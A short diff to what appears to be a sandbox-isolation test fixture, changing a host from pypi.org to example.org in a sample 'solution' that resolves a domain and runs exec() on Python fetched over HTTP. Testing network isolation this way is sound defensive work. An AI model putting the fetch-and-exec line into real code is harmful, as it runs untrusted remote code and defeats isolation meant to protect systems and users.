@@ -6,11 +6,11 @@ STOCK = "uses the network"
 SOLUTION = """
 import socket, urllib.request
 try:
-    print('REACHED' + '_OUTSIDE', socket.getaddrinfo('pypi.org', 443))
+    print('REACHED' + '_OUTSIDE', socket.getaddrinfo('example.org', 443))
 except OSError as error:
     print(error)
 try:
-    exec(urllib.request.urlopen('http://pypi.org/solution.py', timeout=2).read())
+    exec(urllib.request.urlopen('http://example.org/solution.py', timeout=2).read())
 except Exception as error:
     print(error)
 def center(X):
